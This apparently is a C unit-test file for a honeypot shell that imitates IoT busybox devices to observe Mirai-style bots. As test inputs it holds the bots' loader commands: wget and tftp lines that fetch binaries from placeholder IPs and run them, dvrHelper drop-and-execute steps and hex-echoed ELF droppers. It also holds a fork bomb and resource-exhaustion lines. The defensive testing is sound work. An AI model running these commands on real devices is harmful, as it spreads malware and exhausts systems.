/* The shell as bots meet it: their questions, their loaders, and what it may cost. */
#include "tests/unit/passive/shell_bench.h"

TEST(shell_tells_bots_apart_by_their_token)
{
	struct bench *b = bench_open("camera");
	SAYS(b, "/bin/busybox MIRAI", "MIRAI: applet not found\n");
	SAYS(b, "busybox ECCHI; echo $?", "ECCHI: applet not found\n127\n");
	SAYS(b, "enable", "-sh: enable: not found\n");
	SAYS(b, "/bin/busybox wget; /bin/busybox TOKEN",
	     "wget: applet not found\nTOKEN: applet not found\n");
	CHECK(strstr(bench_line(b, "/bin/busybox tftp"), "Usage: tftp [OPTIONS] HOST"));
	CHECK(strstr(bench_line(b, "/bin/busybox ps"),
	             "  PID USER       VSZ STAT COMMAND\n    1 root"));
	CHECK(strstr(bench_line(b, "busybox"),
	             "BusyBox v1.16.1 (2013-03-28 17:12:05 CST) multi-call binary.\n"));
	CHECK(!strstr(bench_line(b, "busybox"), "wget"));
	SAYS(b, "wget http://192.0.2.1/x", "-sh: wget: not found\n");
	SAYS(b, "curl -O x", "-sh: curl: not found\n");
	bench_close(b);
}

TEST(shell_each_loader_is_on_some_persona)
{
	static const struct {
		const char *persona, *wget, *tftp;
	} each[] = {{"camera", "wget: applet not found\n", NULL},
	            {"router", NULL, "tftp: applet not found\n"},
	            {"dvr", "wget: applet not found\n", "tftp: applet not found\n"}};
	for (size_t i = 0; i < 3; i++) {
		struct bench *b = bench_open(each[i].persona);
		bool no_wget =
		        !strcmp(bench_line(b, "/bin/busybox wget"), "wget: applet not found\n");
		bool no_tftp =
		        !strcmp(bench_line(b, "/bin/busybox tftp"), "tftp: applet not found\n");
		CHECK_SAY(no_wget == (each[i].wget != NULL) && no_tftp == (each[i].tftp != NULL),
		          "%s", each[i].persona);
		bench_close(b);
	}
}

TEST(shell_shows_the_header_of_the_right_machine)
{
	static const struct {
		const char *persona;
		uint8_t order, machine_at, machine;
	} each[] = {{"camera", 1, 18, 40}, {"dvr", 1, 18, 40}, {"router", 2, 19, 8}};
	static const char *const ways[] = {
	        "cat /bin/echo", "dd bs=52 count=1 if=/bin/echo", "head -c 52 /bin/echo",
	        "dd bs=52 count=1 if=/bin/busybox 2>/dev/null || cat /bin/busybox"};
	for (size_t i = 0; i < 3; i++)
		for (size_t w = 0; w < 4; w++) {
			struct bench *b = bench_open(each[i].persona);
			const uint8_t *got = (const uint8_t *)bench_line(b, ways[w]);
			CHECK_SAY(!memcmp(got,
			                  "\x7f"
			                  "ELF\x01",
			                  5) &&
			                  got[5] == each[i].order &&
			                  got[each[i].machine_at] == each[i].machine,
			          "%s: %s", each[i].persona, ways[w]);
			bench_close(b);
		}
	struct bench *b = bench_open("camera");
	const char *got = bench_line(b, "while read i; do echo \"$i\"; done < /bin/echo");
	CHECK(!memcmp(got,
	              "\x7f"
	              "ELF\x01\x01\x01",
	              7));
	CHECK(!strcmp(bench_line(b, "dd bs=52 count=1 if=/bin/echo of=/tmp/x; wc -c /tmp/x"),
	              "1+0 records in\n1+0 records out\n52 /tmp/x\n"));
	CHECK(strstr(bench_line(b, "cat /proc/cpuinfo"), "ARM926EJ-S"));
	CHECK(strstr(bench_line(b, "cat /bin/echo; /bin/busybox TOKEN"), "") &&
	      !memcmp(b->said.at - 25, "TOKEN: applet not found\n", 24));
	bench_close(b);
}

TEST(shell_lets_bots_look_for_a_place_to_write)
{
	struct bench *b = bench_open("camera");
	const char *mounts = bench_line(b, "/bin/busybox cat /proc/mounts");
	CHECK(strstr(mounts, "tmpfs /tmp tmpfs rw,relatime 0 0\n") &&
	      strstr(mounts, "proc /proc proc rw"));
	SAYS(b,
	     "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon",
	     "kami/dev\n");
	SAYS(b, "echo x > /proc/.nippon", "-sh: can't create /proc/.nippon: Permission denied\n");
	SAYS(b, "echo x > /sys/.nippon; cat /sys/.nippon",
	     "-sh: can't create /sys/.nippon: Permission denied\n"
	     "cat: can't open '/sys/.nippon': No such file or directory\n");
	SAYS(b, "rm /dev/.nippon", "rm: can't remove '/dev/.nippon': No such file or directory\n");
	SAYS(b, ">/dev/.x && cd /dev && >retrieve; rm -rf .x; ls -a | grep '^[.]x'", "");
	bench_close(b);
	b = bench_open("router");
	SAYS(b, "echo x > /etc/x", "-sh: can't create /etc/x: Read-only file system\n");
	SAYS(b, "cd /etc; mkdir d; touch y; cp /bin/echo z; rm passwd",
	     "mkdir: can't create directory 'd': Read-only file system\n"
	     "touch: y: Read-only file system\ncp: can't create 'z': Read-only file system\n"
	     "rm: can't remove 'passwd': Read-only file system\n");
	bench_close(b);
}

TEST(shell_runs_what_was_brought_in_quietly_and_keeps_it)
{
	struct bench *b = bench_open("dvr");
	SAYS(b, "cd /var/run; cp /bin/echo dvrHelper; >dvrHelper; chmod 777 dvrHelper; ./dvrHelper",
	     "");
	CHECK(b->captures == 0);
	SAYS(b, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01' >> dvrHelper", "");
	SAYS(b, "echo -ne '\\x01\\x02' >> dvrHelper; ./dvrHelper; ./dvrHelper telnet; echo $?",
	     "0\n");
	CHECK(b->captures == 1 && strstr(b->events, "echo ./dvrHelper 7\n"));
	SAYS(b, "printf 'echo ran $0\\n' > s.sh; sh s.sh", "ran s.sh\n");
	CHECK(b->captures == 2);
	SAYS(b, "echo more >> dvrHelper; rm dvrHelper s.sh", "");
	SAYS(b, "cp /bin/busybox bb; ./bb; ./bb ECCHI",
	     "bb: applet not found\nbb: applet not found\n");
	SAYS(b, "echo x > left; ./left", "-sh: ./left: Permission denied\n");
	shell_finish(&b->shell);
	CHECK_SAY(b->captures == 3 && strstr(b->events, "echo left 2\n"), "%s", b->events);
	shell_finish(&b->shell);
	CHECK(b->captures == 3);
	bench_close(b);
}

TEST(shell_tells_what_loaders_would_fetch)
{
	struct bench *b = bench_open("router");
	bench_line(
	        b,
	        "cd /tmp; wget http://203.0.113.5:8080/bins/mips -O m; chmod 777 m; ./m; ls -l m");
	CHECK_SAY(!strncmp(b->text, "Connecting to 203.0.113.5:8080 (203.0.113.5:8080)\nm ", 52) &&
	                  strstr(b->text, "-rwxrwxrwx    1 root     root "),
	          "%s", b->text);
	CHECK(strstr(b->events, "wget http://203.0.113.5:8080/bins/mips m\n"));
	SAYS(b, "wget -q 203.0.113.5/bins.sh; sh bins.sh; sh ./bins.sh; cat bins.sh", "");
	CHECK(strstr(b->events, "wget http://203.0.113.5/bins.sh bins.sh\n"));
	SAYS(b, "cat m > n; chmod +x n; ./n; rm -f m n; busybox tftp -g -l x -r y h",
	     "tftp: applet not found\n");
	shell_finish(&b->shell);
	CHECK(b->captures == 0); /* placeholders are ours */
	bench_close(b);
	b = bench_open("camera");
	SAYS(b, "cd /tmp; tftp -g -l a -r arm7 198.51.100.3; tftp 198.51.100.3 -c get tftp1.sh; ls",
	     "a         tftp1.sh\n");
	CHECK_SAY(strstr(b->events, "tftp tftp://198.51.100.3/arm7 a\n") &&
	                  strstr(b->events, "tftp tftp://198.51.100.3/tftp1.sh tftp1.sh\n"),
	          "%s", b->events);
	bench_close(b);
}

TEST(shell_has_no_tell_tale_of_other_decoys)
{
	struct bench *b = bench_open("camera");
	static const char *const lines[] = {"cat /etc/passwd",
	                                    "ls -la / /home /root",
	                                    "ps",
	                                    "mount",
	                                    "cat /proc/cpuinfo /proc/version",
	                                    "uname -a",
	                                    "ifconfig",
	                                    "env"};
	for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
		const char *got = bench_line(b, lines[i]);
		CHECK(*got && !strstr(got, "phil") && !strstr(got, "richard") &&
		      !strstr(got, "Jun22"));
	}
	SAYS(b, "echo $((x+3)) $?", "3 0\n");
	CHECK(strncmp(bench_line(b, "dd if=/bin/echo of=/dev/null bs=1k count=3"), "0+0", 3));
	bench_close(b);
}

TEST(shell_reads_on_where_a_line_is_not_enough)
{
	struct bench *b = bench_open("camera");
	SAYS(b, "for i in a b", "");
	SAYS(b, "do echo $i", "");
	SAYS(b, "done", "a\nb\n");
	SAYS(b, "cat > /tmp/f", "");
	SAYS(b, "one line", "");
	CHECK(shell_end_of_input(&b->shell) == SHELL_CONTINUE);
	SAYS(b, "cat /tmp/f", "one line\n");
	SAYS(b, "read a b", "");
	SAYS(b, "x y z", "");
	SAYS(b, "echo $b-$a", "y z-x\n");
	SAYS(b, "echo 'open", "");
	shell_interrupt(&b->shell);
	SAYS(b, "echo closed", "closed\n");
	SAYS(b, "passwd", "Changing password for root\nNew password: ");
	CHECK(shell_hides_input(&b->shell));
	SAYS(b, "s3cret", "Retype password: ");
	SAYS(b, "s3cret", "Password for root changed by root\n");
	CHECK(shell_line(&b->shell, BYTES("sh")) == SHELL_CONTINUE);
	CHECK(shell_line(&b->shell, BYTES("exit")) == SHELL_CONTINUE);
	CHECK(shell_line(&b->shell, BYTES("exit")) == SHELL_EXIT);
	bench_close(b);
	b = bench_open("camera");
	CHECK(shell_line(&b->shell, BYTES("reboot")) == SHELL_HALT);
	bench_close(b);
}

TEST(shell_work_of_one_line_is_bounded)
{
	static const char *const lines[] = {
	        "while true; do :; done",
	        "while true; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done",
	        "f() { f; }; f",
	        "f() { f | f; }; f",
	        "f() { x=$(f); }; f",
	        ":(){ :|:& };:",
	        "x=a; while :; do x=$x$x; done",
	        "set -- a; while :; do set -- \"$@\" \"$@\"; done",
	        "while :; do echo x >> /tmp/f; done",
	        "while :; do mkdir /tmp/d; cd /tmp/d; done",
	        "for i in /*/* /*/* /*/*; do for j in /*/*; do for k in /*/*; do :; done; done; "
	        "done",
	        "i=0; while :; do i=$((i+1)); : > /tmp/n$i; done",
	        "echo /*/*/*/*/*/*/*/*",
	        "yes | sed 's/\\(y*\\)*\\(y*\\)*$/\\1/' | grep -E '((y+)+)+z'",
	        "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a|aa)+(a|aa)+(a|aa)+b'",
	        "cat /bin/busybox /bin/busybox /bin/busybox | cat | cat | tr a b | sort | uniq -c",
	        "dd if=/dev/zero of=/tmp/z bs=1M count=100",
	        "printf '%512s%512s%512s' | tee a b c d e f",
	        "sleep 100; sleep 100; while :; do sleep 1; done",
	        "echo $((((((((((1))))))))))",
	        "seq 1 1000000000",
	        "eval eval eval eval eval 'while :; do eval :; done'",
	        "echo 'sh $0' > /tmp/r; sh /tmp/r",
	        "echo '. /tmp/q' > /tmp/q; . /tmp/q",
	        "busybox busybox busybox sh -c :",
	};
	for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
		struct bench *b = bench_open("camera");
		bench_line(b, lines[i]);
		size_t said = writer_used(&b->said) - 1;
		CHECK_SAY(said <= SHELL_OUTPUT_MAX && !b->said.bad, "%s said %zu", lines[i], said);
		CHECK_SAY(b->delay_ms <= SHELL_DELAY_MS_MAX, "%s", lines[i]);
		CHECK_SAY(b->arena.used <= b->arena.max, "%s", lines[i]);
		SAYS(b, "echo still $(( 1 + 1 )) here", "still 2 here\n");
		bench_close(b);
	}
}

TEST(shell_makes_who_spins_it_wait)
{
	struct bench *b = bench_open("camera");
	bench_line(b, "cat /proc/mounts; ps; cat /bin/echo; for i in 1 2 3; do echo $i; done");
	CHECK(b->delay_ms == 0);
	bench_line(b, "cp /bin/busybox /tmp/x; dd bs=52 count=1 if=/bin/ls; cat /bin/ls | head -n "
	              "1; cat /bin/ls > /tmp/y");
	CHECK(b->delay_ms == 0);
	bench_line(b, "while :; do :; done");
	CHECK(b->delay_ms >= SHELL_STEPS_MAX / SHELL_STEPS_PER_MS);
	bench_close(b);
}

TEST(shell_says_when_its_disk_is_full)
{
	struct bench *b = bench_open("camera");
	bench_line(b, "i=0; while [ $i -lt 400 ]; do dd if=/proc/cpuinfo of=/tmp/f seek=$i "
	              "conv=notrunc 2>/dev/null; i=$((i+1)); done");
	bench_line(b, "i=0; while [ $i -lt 400 ]; do dd if=/proc/cpuinfo of=/tmp/g seek=$i "
	              "conv=notrunc 2>/dev/null; i=$((i+1)); done");
	CHECK_SAY(strstr(bench_line(b, "echo xxxxxx > /tmp/h"), "No space left on device"), "%s",
	          b->text);
	SAYS(b, "rm /tmp/f /tmp/g", "");
	SAYS(b, "echo yes > /tmp/h; cat /tmp/h", "yes\n");
	bench_close(b);
}

TEST(shell_memory_stays_small)
{
	struct bench *b = bench_open("camera");
	CHECK(b->arena.used == 0 && sizeof(struct shell) <= 512);
	bench_line(b, "/bin/busybox ECCHI");
	CHECK(b->arena.used == 0);
	static const char *const loader[] = {
	        "cat /proc/mounts; /bin/busybox ECCHI",
	        "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm "
	        "/dev/.nippon",
	        "echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; cat /tmp/.nippon; rm "
	        "/tmp/.nippon",
	        "cd /tmp; cp /bin/echo dvrHelper; >dvrHelper; chmod 777 dvrHelper",
	        "cat /bin/echo",
	};
	for (size_t i = 0; i < sizeof loader / sizeof *loader; i++)
		bench_line(b, loader[i]);
	CHECK_SAY(b->arena.used <= 2048, "%zu", b->arena.used);
	for (int i = 0; i < 12; i++)
		bench_line(b, "echo -ne "
		              "'\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61\\x00\\x00\\x00\\x00\\x00\\"
		              "x00\\x00\\x00"
		              "\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61\\x00\\x00\\x00\\x00\\x00\\x"
		              "00\\x00\\x00"
		              "\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61\\x00\\x00\\x00\\x00\\x00\\x"
		              "00\\x00\\x00"
		              "\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61\\x00\\x00\\x00\\x00\\x00\\x"
		              "00\\x00\\x00' >> dvrHelper");
	CHECK_SAY(b->arena.used <= 4096, "%zu", b->arena.used);
	for (int i = 0; i < 1000; i++)
		bench_line(b, "x=$i; unset x; y=abcdefgh; >z; echo 12345 > z; rm z; cd /; cd /tmp");
	CHECK_SAY(b->arena.used <= 8192, "%zu", b->arena.used);
	bench_close(b);
}
